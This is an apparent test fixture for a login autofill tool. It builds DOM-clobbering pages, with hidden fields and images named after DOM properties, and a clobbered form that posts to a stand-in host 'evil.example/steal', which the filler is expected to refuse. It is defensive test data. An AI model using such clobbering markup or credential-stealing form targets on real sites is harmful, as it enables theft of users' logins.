import type { Refusal } from '../../../src/domain/fill.ts';
import { loginForm, page } from './html.ts';

/** Names under which a form, or the document, is asked for something while a page is read and filled. */
const formNames = [
  'getAttribute',
  'hasAttribute',
  'elements',
  'closest',
  'parentNode',
  'parentElement',
  'assignedSlot',
  'shadowRoot',
  'getRootNode',
  'ownerDocument',
  'nodeType',
  'localName',
  'namespaceURI',
  'textContent',
  'previousSibling',
  'querySelector',
  'querySelectorAll',
  'matches',
  'contains',
  'checkVisibility',
  'getBoundingClientRect',
  'baseURI',
  'action',
  'method',
  'requestSubmit',
  'submit',
  'isConnected',
  'addEventListener',
] as const;

const documentNames = [
  'querySelectorAll',
  'querySelector',
  'getElementById',
  'elementsFromPoint',
  'createTreeWalker',
  'getAnimations',
  'documentElement',
  'body',
  'title',
  'URL',
  'baseURI',
  'defaultView',
  'prerendering',
  'ownerDocument',
  'nodeType',
] as const;

const hiddenFields = (names: readonly string[]): string =>
  names.map((name) => `<input type="hidden" name="${name}" value="x">`).join('');

const images = (names: readonly string[]): string => names.map((name) => `<img name="${name}" alt="">`).join('');

/** Logins that are as good as any, but for the names of what stands beside them. */
export const clobberedPages: readonly { readonly name: string; readonly html: string }[] = [
  ...formNames.map((name) => ({
    name: `a field named ${name}`,
    html: page(loginForm(undefined, hiddenFields([name]))),
  })),
  { name: 'a field of every such name', html: page(loginForm(undefined, hiddenFields(formNames))) },
  { name: 'an image of every name that the document is asked for', html: page(loginForm() + images(documentNames)) },
  {
    name: 'both, in forms around and beside it',
    html: page(
      `<form name="querySelectorAll">${hiddenFields(formNames)}<p>Search</p></form>${loginForm(undefined, hiddenFields(formNames))}${images(documentNames)}`,
    ),
  },
];

/** A form that is sent where it must not go, behind fields that say it is not. */
const clobberedForm = (attributes: string): string =>
  page(loginForm(attributes, hiddenFields(formNames)) + images(documentNames));

export const clobberedTargets: readonly { readonly html: string; readonly refusal: Refusal }[] = [
  { html: clobberedForm('method="post" action="https://evil.example/steal"'), refusal: 'form-sends-elsewhere' },
  { html: clobberedForm('method="get" action="/login"'), refusal: 'form-puts-values-in-address' },
];
